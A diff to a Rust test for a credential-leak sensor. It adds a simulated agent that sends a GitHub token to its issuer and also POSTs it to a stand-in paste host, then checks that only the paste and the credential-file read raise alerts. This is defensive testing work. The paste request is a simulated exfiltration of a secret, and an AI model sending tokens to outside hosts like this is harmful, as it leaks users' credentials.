@@ -37,8 +37,21 @@ fn learned_and_known_tokens_leaving_the_workspace_raise_alerts_without_leaking()
     let running = wait_ready(sensor);
     // The agent sends its env token (passed on its command line too, which must be
     // redacted in alerts) and then the credential file's content.
+    // Then the GitHub token goes once to its issuer (normal use: no alert) and once to
+    // another host (an alert naming that host).
+    let to_issuer = format!("set:GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token {gh}\r\n\r\n");
+    let to_paste = format!("set:POST /p HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 40\r\n\r\n{gh}");
     let mut child = Command::new(&agent)
-        .args([format!("set:Coder-Session-Token: {token}\n"), format!("tcp:{}", sink.addr), format!("read:{}", cred.display()), format!("tcp:{}", sink.addr)])
+        .args([
+            format!("set:Coder-Session-Token: {token}\n"),
+            format!("tcp:{}", sink.addr),
+            format!("read:{}", cred.display()),
+            format!("tcp:{}", sink.addr),
+            to_issuer,
+            format!("tcp:{}", sink.addr),
+            to_paste,
+            format!("tcp:{}", sink.addr),
+        ])
         .env("CODER_AGENT_TOKEN", token)
         .spawn()
         .unwrap();
@@ -64,6 +77,11 @@ fn learned_and_known_tokens_leaving_the_workspace_raise_alerts_without_leaking()
     let argv = a["process"]["argv"].to_string();
     assert!(argv.contains("REDACTED"), "argv not redacted: {argv}");
 
+    let gh_alerts: Vec<_> = alerts.iter().filter(|a| a["finding"]["fingerprint"] == fp.fingerprint(gh.as_bytes()).as_str()).collect();
+    assert_eq!(gh_alerts.len(), 2, "credential-file bytes and the paste, not the issuer call:\n{out}");
+    assert!(gh_alerts.iter().all(|a| a["sink"]["host"] != "api.github.com"));
+    let paste = gh_alerts.iter().find(|a| a["sink"]["host"] == "paste.example").expect("alert naming paste.example");
+    assert_eq!(paste["sink"]["boundary"], "outside");
     let g = of(&fp.fingerprint(gh.as_bytes())).unwrap_or_else(|| panic!("no alert for the GitHub token in:\n{out}"));
     assert_eq!(g["finding"]["detector"], "github-personal-access-token");
     assert_eq!(g["finding"]["safe_prefix"], "ghp_");
